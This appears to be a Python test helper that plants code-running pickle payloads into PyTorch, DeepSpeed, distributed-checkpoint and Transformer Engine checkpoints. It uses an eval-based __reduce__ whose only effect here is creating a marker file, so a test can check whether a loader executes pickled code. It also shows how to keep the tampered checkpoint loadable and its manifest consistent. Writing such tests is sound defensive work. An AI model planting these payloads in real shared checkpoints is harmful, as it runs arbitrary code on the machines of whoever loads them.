"""Plant code-running pickles into real checkpoints, as an attacker who shares one would.

Each payload creates the file `marker` when unpickled; a reader that runs no code leaves
no marker. Every planted file keeps the checkpoint otherwise loadable (the `.metadata`
payload even returns the real index), and DeepSpeed manifests are updated with the new
sizes, so that no other check (a damaged file) refuses the checkpoint first.
"""
from __future__ import annotations

import io
import json
import os
import pickle
from pathlib import Path

import torch


class Payload:
    """Unpickles as: touch `marker`, then return `value` (the original content)."""

    def __init__(self, marker: Path, value):
        self.marker, self.value = str(marker), value

    def __reduce__(self):
        code = f"(open({self.marker!r}, 'a').close(), __import__('pickle').loads({pickle.dumps(self.value)!r}))[1]"
        return (eval, (code,))


def plant_in_torch_file(file: Path, marker: Path) -> None:
    """A torch zip file whose top-level dict gains one entry that runs code."""
    state = torch.load(file, map_location="cpu", weights_only=False)
    state["planted"] = Payload(marker, 0)
    torch.save(state, file)
    _refresh_manifest(file)


def plant_in_dcp_metadata(iteration: Path, marker: Path) -> None:
    """`.metadata` replaced by a pickle that runs code and then returns the real index."""
    with open(iteration / ".metadata", "rb") as f:
        real = pickle.load(f)
    real.storage_meta = None  # as torch writes it (the reader fills it in)
    with open(iteration / ".metadata", "wb") as f:
        pickle.dump(Payload(marker, real), f)


def plant_in_dcp_shard(iteration: Path, marker: Path, fqn: str | None = None, replace=None) -> str:
    """One pickled object inside a `.distcp` shard (the first Megatron-Core keeps as bytes,
    or `fqn`) replaced by one that runs code (or by `replace(original, marker)`): appended
    to its shard, and the index pointed at it. Returns the object's name."""
    from torch.distributed.checkpoint.filesystem import _StorageInfo
    from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

    with open(iteration / ".metadata", "rb") as f:
        metadata = pickle.load(f)
    fqn = fqn or next(k for k, v in metadata.state_dict_metadata.items() if isinstance(v, BytesStorageMetadata))
    index = MetadataIndex(fqn)
    info = metadata.storage_data[index]
    shard = iteration / info.relative_path
    with open(shard, "rb") as f:
        f.seek(info.offset)
        original = torch.load(io.BytesIO(f.read(info.length)), weights_only=False)
    buffer = io.BytesIO()
    torch.save((replace or Payload)(marker, original), buffer)
    offset = shard.stat().st_size
    with open(shard, "ab") as f:
        f.write(buffer.getvalue())
    metadata.storage_data[index] = _StorageInfo(info.relative_path, offset, len(buffer.getvalue()))
    with open(iteration / ".metadata", "wb") as f:
        pickle.dump(metadata, f)
    return fqn


def te_extra_state(recipe, history: int = 1024) -> bytes:
    """Transformer Engine's delayed-scaling extra state as TE 2.19 pickles it (module/base.py,
    get_extra_state), made without TE: the recipe, the forward and backward scales and amax
    histories as CPU tensors, and the plain FP8 variables; `recipe` stands in for the
    recipe object (an attacker's payload)."""
    state = {"recipe": recipe, "scale_fwd": torch.ones(3), "amax_history_fwd": torch.zeros(history, 3),
             "scale_bwd": torch.ones(2), "amax_history_bwd": torch.zeros(history, 2),
             "extra_fp8_variables": {"fp8_checkpoint": True, "num_gemms": 1, "fp8_max_fwd": 448,
                                     "fp8_max_bwd": 57344}}
    return pickle.dumps(state)


def plant_in_te_extra_state(iteration: Path, marker: Path) -> str:
    """A linear's `_extra_state` object (where TE keeps FP8 scales) replaced by TE's format
    with a code-running recipe, as the uint8 tensor TE writes. Returns the object's name."""
    def replace(marker, original):
        return torch.frombuffer(bytearray(te_extra_state(Payload(marker, 0))), dtype=torch.uint8)

    return plant_in_dcp_shard(iteration, marker, "decoder.layers.self_attention.linear_proj._extra_state/shard_0_4",
                              replace)


def _refresh_manifest(file: Path) -> None:
    manifest = file.parent / "gridwright_deepspeed.json"
    if manifest.is_file():
        doc = json.loads(manifest.read_text())
        doc["files"][file.name] = file.stat().st_size
        manifest.write_text(json.dumps(doc))


def latest(root: Path) -> Path:
    return root / (root / "latest").read_text().strip()


def env_without_mlflow() -> dict:
    return {k: v for k, v in os.environ.items() if not k.startswith("MLFLOW_")}
